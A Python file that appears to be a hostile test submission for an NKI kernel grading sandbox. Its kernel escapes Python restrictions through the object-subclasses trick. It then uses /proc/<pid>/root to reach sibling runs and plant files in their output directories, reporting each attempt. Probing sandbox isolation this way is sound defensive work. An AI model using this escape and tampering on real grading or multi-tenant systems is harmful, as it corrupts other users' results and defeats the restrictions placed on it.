"""Hostile (screen off): escapes the Python restrictions and, while another submission's kernel runs next to it,
tries to reach that run through /proc/<pid>/root (its private mount namespace, where its output directory is
writable) and plant a file in its output directory; reports every attempt in its error message."""

import neuronxcc.nki as nki


def _sys():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"]
    raise RuntimeError("no escape found")


@nki.jit
def matrix_transpose(a_tensor):
    os = _sys().modules["os"]
    mine = os.path.dirname(os.getcwd())  # this run's directory; its siblings are the other runs
    runs_dir = os.path.dirname(mine)
    report = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        base = "/proc/" + pid + "/root" + runs_dir
        try:
            runs = [r for r in os.listdir(base) if r.startswith("asst4-case-") and r != os.path.basename(mine)]
        except OSError:
            continue
        for run in runs:
            try:
                outs = [d for d in os.listdir(base + "/" + run) if d.startswith("out-")]
            except OSError as exc:
                report.append("cannot list " + run + ": " + exc.strerror)
                continue
            for out in outs:
                path = base + "/" + run + "/" + out + "/output_1.npy"
                try:
                    fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
                    os.close(fd)
                    report.append("WROTE " + path)
                except OSError as exc:
                    report.append("cannot write " + run + ": " + exc.strerror)
    raise RuntimeError("sibling runs: " + ("; ".join(sorted(set(report))) or "none reachable"))
